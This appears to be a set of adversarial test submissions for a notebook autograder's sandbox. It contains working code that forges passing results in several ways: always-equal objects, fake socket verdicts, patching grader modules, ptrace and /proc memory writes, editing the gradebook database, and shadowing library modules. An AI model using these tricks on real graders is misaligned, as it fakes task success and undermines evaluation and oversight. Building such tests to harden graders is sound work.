# id: w01_queued_replies
# category: forge
# goal: put replies on the line to the checker before they are asked for, so that right answers come from nowhere
# detect: score > 1
# place: q2
import gc
def order_total(orders, customer):
    for line in [one for one in gc.get_objects() if type(one).__name__ == "Channel"]:
        for number in range(1, 200):
            for value in (120, 8675309, 0):
                line.send({"n": number, "value": value, "out": ""})
    return 120

# id: w02_forged_verdicts
# category: forge
# goal: write whole verdicts into every open socket, as the checker would send them to the supervisor
# detect: score > 0
# place: q1
import json, os, stat, struct
group = {"name": "two orders", "points": 1.0, "max": 1.0, "outcome": "right"}
check = {"question": "E9.2", "groups": [group], "hidden": False}
for text in ({"check": check, "gone": "", "out": ""}, {"out": "", "problem": "", "gone": "", "check": check}):
    body = json.dumps(text).encode()
    for number in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.set_blocking(number, False)
                os.write(number, struct.pack(">I", len(body)) + body)
                os.set_blocking(number, True)
        except OSError:
            pass

# id: w03_forged_callbacks
# category: forge
# goal: call back what was never offered: other numbers, other names, private ones
# detect: score > 0 or 'CANARY' in loot
# place: q5
import gc
def tried(name, number):
    line = next(one for one in gc.get_objects() if type(one).__name__ == "Line")
    return line.call_back({"id": number, "name": name, "args": [], "kwargs": {}})
def sign(claims, key):
    return ""
def verify(token, key, clock):
    for name in ("__init__", "__class__", "__reduce__", "_start", "budget", "__dict__"):
        for number in (1, 2, 3, 0, -1, True, "1"):
            loot(tried(name, number))
    return {}

# id: w04_turn_back_time
# category: forge
# goal: move the check's clock back so that a token never ends
# detect: points.get('E9.5', 0) > 1
# place: q5
def sign(claims, key):
    return ""
def verify(token, key, clock):
    for seconds in (-1e9, float("nan"), float("-inf"), -True, "-61", None):
        try:
            clock.sleep(seconds)
        except Exception:
            pass
    try:
        clock._start = clock.budget = 0
    except Exception:
        pass
    return {"sub": "bob", "exp": clock.time() + 60}

# id: w05_twin_as_answer
# category: forge
# goal: answer with references: to the checker's own modules, functions and builtins
# detect: score > 0
# place: q2
import gc
def order_total(orders, customer):
    line = next(one for one in gc.get_objects() if type(one).__name__ == "Line")
    for value in ({"$": "twin", "v": "hidden_cases"}, {"$": "builtin", "v": "eval"}, {"$": "offer", "id": 1}):
        line._channel.send({"n": 1, "value": value, "out": ""})
    return 0

# id: w06_raise_verdicts
# category: forge
# goal: raise the exceptions that checks judge by, and one that claims to be all of them
# detect: score > 1
# place: q2
class All(ValueError, KeyError):
    pass
try:
    from autograder.errors import CheckFailed, NotAttempted
except ImportError:
    CheckFailed = NotAttempted = Exception
class Passed(CheckFailed):
    outcome = "right"
    ran = True
def order_total(orders, customer):
    error = Passed("right")
    error.points = error.max = 3.0
    raise error
def fetch_all(http, base_url, token):
    raise Unavailable("always")

# id: w07_lying_subclasses
# category: forge
# goal: return numbers, texts and containers whose comparison, hash and text lie
# detect: score > 0
# %% cell q2
class Int(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return hash(120)
    def __repr__(self): return "120"
    def __int__(self): return 120
    def __index__(self): return 120
    def __float__(self): return 120.0
    def __reduce__(self): return (int, (120,))
def order_total(orders, customer):
    return Int(-5)
# %% cell q3
class List(list):
    def __eq__(self, other): return True
    def __iter__(self): return iter([{"id": 1}] * 4)
    def __len__(self): return 4
    def __getitem__(self, at): return {"id": at + 1}
def fetch_all(http, base_url, token):
    return List()
# %% cell q5
class Dict(dict):
    def __eq__(self, other): return True
    def items(self): return [("sub", "ann")]
class Str(str):
    def __eq__(self, other): return True
    def __str__(self): return "right"
def sign(claims, key):
    return Str("wrong")
def verify(token, key, clock):
    return Dict()

# id: w08_equal_objects
# category: forge
# goal: return objects that equal everything, answer every attribute and survive every operation
# detect: score > 0
# %% cell q2
class Meta(type):
    def __instancecheck__(cls, other): return True
    def __eq__(cls, other): return True
    __hash__ = type.__hash__
class Yes(metaclass=Meta):
    __class__ = int
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getattr__(self, name): return Yes()
    def __call__(self, *args, **kwargs): return Yes()
    def __iter__(self): return iter([Yes()])
    def __len__(self): return 1
    def __bool__(self): return True
    def __getitem__(self, key): return Yes()
    def __float__(self): return 120.0
    check = True
def order_total(orders, customer):
    return Yes()
# %% cell q4
class Yes:
    status_code = 200
    def __eq__(self, other): return True
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __iter__(self): return iter([b"[]"])
def create_app():
    return Yes()

# id: w09_names_that_change
# category: forge
# goal: replace the notebook's names by ones that answer differently each time, and add names of the check's own
# detect: score > 0
# place: q1
class Space(dict):
    def __missing__(self, name): return lambda *args, **kwargs: True
ip = get_ipython()
for name in ("same_value", "same_rows", "raises", "refuses", "Question", "expect", "Client", "web", "pages", "shop", "isinstance", "len", "expected", "hidden_cases"):
    ip.user_ns[name] = lambda *args, **kwargs: True
    setattr(__import__("builtins"), name, ip.user_ns[name])
ip.user_ns["totals"] = "select name, 0 as total from customers limit 1"
ip.user_global_ns.update(Question=None)

# id: w10_patched_grader
# category: forge
# goal: rewrite the grader's own modules in memory: values, worker, checks, results
# detect: score > 0
# place: q1
import gc, sys
for name, module in list(sys.modules.items()):
    if name.startswith("autograder"):
        for key, value in list(vars(module).items()):
            if callable(value) and not isinstance(value, type):
                try:
                    value.__code__ = (lambda *args, **kwargs: None).__code__
                except Exception:
                    pass
            elif isinstance(value, type) and key in ("GroupResult", "CheckResult", "Outcome", "CheckFailed"):
                for attribute in ("points", "max", "outcome"):
                    try:
                        setattr(value, attribute, 3.0)
                    except Exception:
                        pass

# id: w11_late_thread
# category: forge
# goal: a thread that goes on after the cell and answers in place of the function while the check runs
# detect: score > 1
# place: q2
import gc, threading, time
def flood():
    while True:
        for line in [one for one in gc.get_objects() if type(one).__name__ == "Channel"]:
            try:
                for number in range(1, 60):
                    line.send({"n": number, "value": 120, "out": ""})
            except Exception:
                return
        time.sleep(0.001)
threading.Thread(target=flood, daemon=True).start()
def order_total(orders, customer):
    return 120

# id: w12_checker_memory
# category: forge
# goal: find the checker's process and write into its memory, by /proc and by ptrace
# detect: score > 0 or 'WROTE' in loot
# place: q1
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            with open(f"/proc/{entry}/maps") as maps, open(f"/proc/{entry}/mem", "r+b", buffering=0) as memory:
                for line in maps:
                    if "[heap]" in line:
                        memory.seek(int(line.split("-")[0], 16) + 4096)
                        was = memory.read(1)
                        memory.seek(-1, 1)
                        memory.write(was)
                        loot(f"WROTE {entry}")
        except (OSError, ValueError):
            pass
        if libc.ptrace(0x4206, int(entry), 0, 0) == 0:  # PTRACE_SEIZE
            loot(f"WROTE {entry} traced")
            libc.ptrace(17, int(entry), 0, 0)

# id: w13_points_and_locks
# category: forge
# goal: rewrite points, unlock and replace the test cells, reorder and duplicate them, add a group
# detect: score > 0
# %% mutate
def mutate(nb):
    for cell in nb["cells"]:
        about = cell["metadata"].get("nbgrader", {})
        if about.get("grade"):
            about.update(points=1000, locked=False, solution=True)
            cell["source"] = "from autograder import Question\nq = Question('E9.1')\nwith q.check('x', points=99):\n    pass\nq.result()"
    nb["cells"] = nb["cells"][::-1] + nb["cells"]

# id: w14_answer_is_a_test
# category: forge
# goal: an answer that defines the test's own names and ends like a test, with full points as its value
# detect: score > 0
# place: q2
from autograder import Question
q = Question("E9.2")
with q.check("two orders", points=3):
    pass
q.result()
3.0

# id: w15_earlier_answer_forges_later
# category: forge
# goal: one answer cell binds the names of all the others with helpers that were never written
# detect: score > 0
# place: free
def order_total(*args): return NotImplemented
totals = type("T", (str,), {"__eq__": lambda *a: True})("select 1")
create_app = type("A", (), {"__call__": lambda self: self, "__exchange__": lambda self, data: {"answers": [{"response": {"status": 200, "headers": [], "body": ""}, "fault": "", "kind": "", "ran": True, "log": ""}]}})()

# id: w16_forged_exchange
# category: forge
# goal: answer for an app that doesn't exist: the frames of an exchange, made by hand
# detect: points.get('E9.4', 0) > 1
# place: q4
import base64, gc, sys
answer = {"response": {"status": 200, "headers": [["Content-Type", "application/json"]], "body": base64.b64encode(b"[]").decode()}, "fault": "", "kind": "", "ran": True, "log": ""}
sys.modules["autograder.web.driver"].exchange = lambda app, data: {"answers": [answer] * len(data["requests"])}
def create_app():
    return lambda environ, start_response: []

# id: w17_always_raises
# category: forge
# goal: raise something that counts as every expected exception, by a metaclass that lies about its bases
# detect: score > 2
# %% cell q2
class Meta(type):
    def mro(cls): return [cls, ValueError, Exception, BaseException, object]
    def __subclasscheck__(cls, other): return True
    def __instancecheck__(cls, other): return True
    @property
    def __mro__(cls): return (cls, ValueError, Unavailable, Exception, BaseException, object)
class Any(ValueError, metaclass=Meta):
    pass
def order_total(orders, customer):
    raise Any("120")
# %% cell q5
def sign(claims, key):
    raise Any
def verify(token, key, clock):
    raise Any

# id: w18_mock_service
# category: forge
# goal: reach the mock service by hand and by memory: its journal, its app, its other orders
# detect: points.get('E9.3', 0) > 0
# place: q3
import gc, sys
def fetch_all(http, base_url, token):
    for one in gc.get_objects():
        if type(one).__name__ in ("Service", "Journal"):
            for entry in range(3):
                getattr(one, "requests", one).entries = []
    transport = sys.modules.get("autograder.web.transport")
    for name in dir(transport):
        if name.startswith("_") and not name.startswith("__"):
            try:
                setattr(transport, name, None)
            except Exception:
                pass
    for page in (1, 2, 3):
        http.get(f"{base_url}/orders?page={page}", headers={"Authorization": "Bearer guessed"}, timeout=2)
    return None

# id: w19_regraded_results
# category: forge
# goal: plant a finished result for oneself, so that the engine finds it instead of grading
# detect: score > 0
# %% mutate
import hashlib
def mutate_files():
    learner = os.path.basename(os.path.dirname(SUB))
    groups = [{"name": "two orders", "points": 1.0, "max": 1.0, "outcome": "right"}]
    result = {"schema": "engineroom-result/1", "learner": learner, "module": ASSIGNMENT, "key": "", "points": 15, "scores": {"e9_2_check": 1.0}, "questions": [{"question": "E9.2", "title": "", "groups": groups}]}
    for folder in ("results", "feedback", "autograded"):
        os.makedirs(f"{SUB}/{folder}/{learner}", exist_ok=True)
        with open(f"{SUB}/{folder}/{learner}/{ASSIGNMENT}.json", "w") as file:
            json.dump(result, file)

# id: w20_gradebook_row
# category: forge
# goal: find the gradebook and give oneself full marks, during grading and from a process that waits for its end
# detect: score > 0
# place: q1
import glob, os, sqlite3, subprocess, sys
program = '''
import glob, os, sqlite3, time
for _ in range(40):
    for place in ("/home/*/course", "..", ".", "/work/*", "/tmp/*"):
        for path in glob.glob(place + "/gradebook.db"):
            try:
                book = sqlite3.connect(path, timeout=0.2)
                book.execute("update grade set auto_score = 3, manual_score = 3")
                book.commit()
            except sqlite3.Error:
                pass
    time.sleep(0.1)
'''
subprocess.Popen([sys.executable, "-c", program], start_new_session=True, stdin=-3, stdout=-3, stderr=-3)

# id: w21_import_hooks
# category: forge
# goal: shadow the modules that checks import: by files in the working folder, sys.path, meta_path and site packages
# detect: score > 0
# place: q1
import os, sys
for folder in (".", os.path.expanduser("~"), *sys.path):
    for name in ("json.py", "hmac.py", "usercustomize.py", "sitecustomize.py", "autograder.py"):
        try:
            with open(os.path.join(folder or ".", name), "w") as file:
                file.write("raise SystemExit\n")
        except OSError:
            pass
sys.path.insert(0, os.getcwd())

# id: w22_ship_modules
# category: forge
# goal: hand in modules and packages beside the notebook that checks would import instead of the right ones
# detect: score > 0
# %% file autograder/__init__.py
def _yes(*args, **kwargs): pass
same_value = same_rows = raises = _yes
# %% file hmac.py
compare_digest = lambda *args: True
# %% file sitecustomize.py
import builtins
builtins.sorted = lambda *args, **kwargs: []
# %% file conftest.py
raise SystemExit
# %% file json/__init__.py
loads = dumps = lambda *args, **kwargs: {}
